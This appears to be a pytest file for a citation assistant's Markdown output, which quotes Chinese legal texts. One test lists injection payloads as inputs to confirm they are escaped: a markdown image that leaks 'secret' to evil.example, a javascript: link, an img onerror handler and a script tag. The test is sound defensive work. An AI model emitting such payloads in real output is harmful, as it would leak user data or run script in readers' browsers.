"""Answers as Markdown: what they say, and that no document can make a reader's program do anything."""

from __future__ import annotations

from dataclasses import replace

import pytest
from markdown_it import MarkdownIt

from assistant.answers.footnotes import as_markdown, footnote, plain
from tests.samples import answer, citation, refusal


def test_an_answer_in_full() -> None:
    assert as_markdown(answer()) == (
        "It is in force since 1 May 2022. [1]\n\nSo it is. [1] [2]\n\n"
        "In conflict: 2022 [1]; 2021 [2]. the higher level prevails\n\nCheck it.\n\n**Sources**\n\n"
        "[1] 中华人民共和国职业教育法, 主席令第一一二号 (law; in force; national), 第六十九条, page 7: “本法自2022年5月1日起施行。”\n\n"
        "[2] 中华人民共和国职业教育法, 主席令第一一二号 (law; in force; national), 第六十九条, page 7: “施行。”"
    )


def test_an_answer_in_chinese() -> None:
    text = as_markdown(replace(answer(language="zh"), conflicts=(), notes=()))
    assert "**来源**" in text
    assert "[1] 中华人民共和国职业教育法，主席令第一一二号（law; in force; national），第六十九条，第7页：“本法自2022年5月1日起施行。”" in text


def test_a_refusal_shows_the_nearest_passages() -> None:
    text = as_markdown(refusal())
    assert text.startswith("The library does not answer this.\n\n**Nearest passages**\n\n")
    assert text.count("passage ") == 3
    assert as_markdown(replace(refusal(), hits=())) == "The library does not answer this."


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret)",
        "[click](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "`code` ```\nfence\n```",
        "# heading",
        "1. list",
        "- list",
        "a\n\n    indented",
        "***bold*** _it_ ~~gone~~",
        "| a | b |\n|---|---|",
        "\\![x](y)",
        "[x]: https://evil.example",
    ],
)
def test_words_of_documents_are_shown_as_they_are(text: str) -> None:
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(plain(text))
    assert html.startswith("<p>")
    assert html.count("<") == 2
    assert MarkdownIt().render(footnote(replace(citation(), quote=text, title=text), "en")).count("<") == 2
